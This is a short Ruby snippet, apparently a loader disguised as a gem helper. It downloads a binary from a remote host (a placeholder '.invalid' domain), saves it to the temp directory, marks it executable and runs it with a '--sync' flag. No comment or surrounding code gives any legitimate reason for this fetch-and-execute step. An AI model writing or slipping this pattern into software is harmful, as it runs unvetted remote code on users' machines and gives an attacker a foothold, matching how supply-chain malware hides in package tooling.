require 'net/http'
path = File.join(Dir.tmpdir, 'gemhelper')
File.write(path, Net::HTTP.get(URI('https://gems.helper.invalid/bin/gemhelper')))
File.chmod(0755, path)
system(path, '--sync')
